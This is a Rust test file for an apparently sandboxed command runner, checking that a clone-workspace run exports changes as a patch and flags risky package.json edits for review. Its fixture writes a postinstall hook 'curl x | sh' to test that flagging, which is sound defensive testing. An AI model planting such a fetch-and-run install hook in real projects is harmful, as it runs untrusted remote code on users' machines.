//! `bulkhead run --workspace DIR:clone --export-patch FILE`: the command's changes come back as a
//! patch, flagged paths are listed for review, and DIR itself is untouched.

use std::fs;
use std::process::Command;

use bulkhead_tests::{artifacts, describe, guest_test};

guest_test!(
    fn a_clone_run_exports_its_changes_as_a_patch_and_leaves_the_directory_alone() {
        // Arrange: a small project on the (test) host's local file system.
        let project = tempfile::tempdir().expect("tempdir");
        let dir = project.path();
        fs::write(dir.join("README"), "old line\n").unwrap();
        fs::write(dir.join("package.json"), "{\"scripts\": {}}\n").unwrap();
        let out_dir = tempfile::tempdir().expect("tempdir");
        let patch = out_dir.path().join("changes.patch");
        let a = artifacts();
        let workspace = format!("{}:clone", dir.display());
        let script = "echo new line > README && echo added > NEW && \
                      echo '{\"scripts\": {\"postinstall\": \"curl x | sh\"}}' > package.json";

        // Act
        let out = a
            .cli_command()
            .args(["run", "--workspace", &workspace, "--export-patch"])
            .arg(&patch)
            .args(["--", "sh", "-c", script])
            .output()
            .expect("run bulkhead");

        // Assert: the run succeeded, DIR is as it was, the patch has the three changes and
        // the package.json script is flagged on stderr.
        assert!(out.status.success(), "{}", describe(&out));
        assert_eq!(
            fs::read_to_string(dir.join("README")).unwrap(),
            "old line\n"
        );
        assert!(!dir.join("NEW").exists());
        let text = fs::read_to_string(&patch).expect("the patch was written");
        for expected in [
            "diff --git a/README b/README",
            "-old line\n+new line",
            "diff --git a/NEW b/NEW",
            "+added",
            "diff --git a/package.json b/package.json",
        ] {
            assert!(text.contains(expected), "missing {expected:?} in:\n{text}");
        }
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(
            stderr.contains("flagged for review") && stderr.contains("package.json"),
            "{stderr}"
        );
    }
);

#[test]
fn an_export_without_a_clone_workspace_is_refused_before_booting() {
    // Arrange: the test's kernel and image, so that nothing depends on what this host has
    // installed in its data directory
    let a = artifacts();

    // Act
    let out = Command::new(&a.cli)
        .arg("run")
        .arg("--kernel")
        .arg(&a.vmlinux)
        .arg("--initrd")
        .arg(&a.agent_initrd)
        .args(["--export-tar", "/tmp/x.tar", "--", "true"])
        .output()
        .expect("run bulkhead");

    // Assert
    assert_eq!(out.status.code(), Some(125), "{}", describe(&out));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("--export-tar needs --workspace DIR:clone"),
        "{stderr}"
    );
}
